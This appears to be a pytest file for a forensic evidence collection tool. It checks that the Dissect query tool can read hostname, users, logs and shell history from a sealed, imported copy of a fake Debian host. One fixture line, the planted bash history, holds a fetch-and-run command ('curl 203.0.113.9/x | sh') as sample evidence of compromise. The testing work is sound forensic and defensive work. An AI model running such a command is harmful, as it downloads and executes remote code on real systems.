"""A stranger's tool opens the working copy: what it reads is the proof, not that it opened."""

from __future__ import annotations

import os
import pwd
import subprocess
import sys
from pathlib import Path

import pytest
from bundles import IDENTITY, RECIPIENT, sealed
from hostile import link, regular

from evidence.collection import Request, collect
from evidence.intake import import_bundle

QUERY = Path(sys.executable).with_name("target-query")
SYSLOG = b"""\
Nov 22 03:14:07 ward-3 sshd[812]: Failed password for root from 203.0.113.9 port 50122 ssh2
Nov 22 03:14:09 ward-3 sshd[812]: Accepted password for nurse from 203.0.113.9 port 50124 ssh2
"""
AUTH = SYSLOG.replace(b"812", b"813")


def query(copy, *functions):
    """What Dissect says of a folder; its errors are ours, too."""
    done = subprocess.run(
        [str(QUERY), "-q", str(copy), "-f", ",".join(functions)],
        capture_output=True,
        text=True,
        check=True,
        env={"PATH": os.environ["PATH"], "HOME": str(copy), "LANG": "C.UTF-8"},
    )
    return done.stdout


@pytest.fixture(scope="module")
def ward(tmp_path_factory):
    """A small Linux machine, collected, sealed, imported."""
    place = tmp_path_factory.mktemp("ward")
    files = {
        "/etc/hostname": b"ward-3\n",
        "/etc/hosts": b"127.0.0.1 localhost\n127.0.1.1 ward-3\n",
        "/etc/passwd": b"root:x:0:0:root:/root:/bin/bash\nnurse:x:1000:1000::/home/nurse:/bin/sh\n",
        "/usr/lib/os-release": b'NAME="Debian GNU/Linux"\nID=debian\nVERSION_ID="12"\n'
        b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
        "/etc/timezone": b"Asia/Tokyo\n",
        "/var/log/syslog": SYSLOG,
        "/var/log/auth.log": AUTH,
        "/home/nurse/.bash_history": b"curl 203.0.113.9/x | sh\n",
    }
    given = [regular(name, data) for name, data in files.items()]
    given.append(link("/etc/os-release", b"../usr/lib/os-release"))
    path = sealed(place / "bundle", volumes=[given, []])
    return import_bundle(path, place / "case", identities=[IDENTITY]).host / "fs"


def test_dissect_reads_host_name_users_and_version(ward):
    found = query(ward, "hostname,version,users")

    assert "ward-3" in found
    assert "Debian GNU/Linux 12" in found
    assert "name='nurse'" in found
    assert found.count("<linux/user") == 2


def test_dissect_reads_every_line_of_the_logs(ward):
    found = query(ward, "authlog")

    assert found.count("203.0.113.9") == 2
    assert query(ward, "syslog").count("203.0.113.9") == 2


def test_dissect_reads_the_history_of_a_home_by_its_path(ward):
    assert "curl 203.0.113.9/x | sh" in query(ward, "commandhistory")


def test_dissect_reads_this_machine_from_its_own_collection(tmp_path):
    """The real machine, its ordinary collectors, and a tool that knows none of them."""
    request = Request(
        output=tmp_path / "stick",
        profile="quick",
        recipients=(RECIPIENT,),
        only=("os-identity", "accounts", "var-log"),
    )
    collected = collect(request)
    host = import_bundle(collected.path, tmp_path / "case", identities=[IDENTITY]).host

    found = query(host / "fs", "hostname,users")

    assert Path("/etc/hostname").read_text().strip() in found
    for account in pwd.getpwall():
        assert f"name='{account.pw_name}'" in found
    assert found.count("<linux/user") == len(Path("/etc/passwd").read_text().splitlines())
    logged = [path for path in (host / "fs/var/log").rglob("*") if path.is_file()]
    assert logged
    assert query(host / "fs", "walkfs").count("/var/log/") >= len(logged)
